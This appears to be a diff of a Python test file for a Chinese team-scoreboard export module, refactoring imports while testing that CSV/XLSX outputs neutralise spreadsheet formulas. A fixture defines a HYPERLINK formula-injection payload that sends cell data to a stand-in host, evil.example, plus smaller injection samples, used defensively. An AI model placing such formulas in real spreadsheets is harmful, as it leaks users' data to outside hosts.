@@ -10,7 +10,8 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from lib import export, metrics, schema
+from lib import metrics, schema
+from lib.figures import scoresheet
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
@@ -52,11 +53,11 @@ def board() -> pd.DataFrame:
     (-3, -3), (1.5, 1.5), (None, None), (date(2024, 1, 1), date(2024, 1, 1)),
 ])
 def test_neutralise_touches_only_formula_texts(value, expected):
-    assert export.neutralise(value) == expected
+    assert schema.neutralise(value) == expected
 
 
 def test_neutralise_is_idempotent():
-    assert export.neutralise(export.neutralise("=1")) == "'=1"
+    assert schema.neutralise(schema.neutralise("=1")) == "'=1"
 
 
 def _sheet(data: bytes):
@@ -65,7 +66,7 @@ def _sheet(data: bytes):
 
 
 def test_xlsx_title_headers_and_frozen_header(board):
-    wb, ws = _sheet(export.scoresheet_xlsx(board, ASOF, 20))
+    wb, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20))
     assert ws.title == "成绩单"
     assert ws["A1"].value == "工作组排行成绩单（截至 2024-01-20，攻坚第 20 天）"
     assert [c.value for c in ws[2]] == [
@@ -78,7 +79,7 @@ def test_xlsx_title_headers_and_frozen_header(board):
 
 
 def test_xlsx_values_and_number_formats(board):
-    _, ws = _sheet(export.scoresheet_xlsx(board, ASOF, 20))
+    _, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20))
     good = [c.value for c in ws[3]]
     assert good[:3] == [1, 0, "新港社区工作组"]
     assert good[5:12] == [2, 2, 2, 1.0, 100.0, 0, 0]
@@ -94,14 +95,14 @@ def test_xlsx_values_and_number_formats(board):
 
 
 def test_xlsx_neutralises_ledger_texts(board):
-    _, ws = _sheet(export.scoresheet_xlsx(board, ASOF, 20))
+    _, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20))
     texts = [c.value for row in ws.iter_rows(min_row=3) for c in row]
     assert "'" + EVIL in texts and "'@SUM(1+1)" in texts and "'+甲地块" in texts
     assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula anywhere
 
 
 def test_csv_has_bom_headers_and_screen_values(board):
-    data = export.scoresheet_csv(board)
+    data = scoresheet.scoresheet_csv(board)
     assert data.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
     assert rows[0][:5] == ["排名", "升降", "工作组", "单位", "地块"]
@@ -112,7 +113,7 @@ def test_csv_has_bom_headers_and_screen_values(board):
 
 
 def test_export_matches_the_board_order_and_rank_change(board):
-    rows = export.scoresheet_rows(board)
+    rows = scoresheet.scoresheet_rows(board)
     assert [r[2] for r in rows] == ["新港社区工作组", "'" + EVIL]
     assert [r[0] for r in rows] == board["rank"].tolist()
 
@@ -121,21 +122,21 @@ def test_rank_change_format_round_trip():
     b = metrics.team_board(HH, TEAMS, BLOCKS, ASOF)
     b.loc[0, "rank_change"] = 2
     b.loc[1, "rank_change"] = -1
-    rows = list(csv.reader(io.StringIO(export.scoresheet_csv(b).decode("utf-8-sig"))))
+    rows = list(csv.reader(io.StringIO(scoresheet.scoresheet_csv(b).decode("utf-8-sig"))))
     assert [rows[1][1], rows[2][1]] == ["▲2", "▼1"]
-    _, ws = _sheet(export.scoresheet_xlsx(b, ASOF, 20))
+    _, ws = _sheet(scoresheet.scoresheet_xlsx(b, ASOF, 20))
     assert [ws["B3"].value, ws["B4"].value] == [2, -1]
 
 
 def test_empty_board_exports_headers_only():
     empty = metrics.team_board(HH.iloc[:0], TEAMS, BLOCKS, ASOF)
-    _, ws = _sheet(export.scoresheet_xlsx(empty, ASOF, 20))
+    _, ws = _sheet(scoresheet.scoresheet_xlsx(empty, ASOF, 20))
     assert ws.max_row == 2
-    assert export.scoresheet_csv(empty).decode("utf-8-sig").count("\r\n") == 1
+    assert scoresheet.scoresheet_csv(empty).decode("utf-8-sig").count("\r\n") == 1
 
 
 def test_english_sheet_when_asked(board):
-    _, ws = _sheet(export.scoresheet_xlsx(board, ASOF, 20, lang="en"))
+    _, ws = _sheet(scoresheet.scoresheet_xlsx(board, ASOF, 20, lang="en"))
     assert ws["A1"].value == "Team score sheet (as of 2024-01-20, campaign day 20)"
     assert ws["A2"].value == "Rank"
-    assert export.file_name(ASOF, "xlsx") == "成绩单-2024-01-20.xlsx"
+    assert scoresheet.file_name(ASOF, "xlsx") == "成绩单-2024-01-20.xlsx"
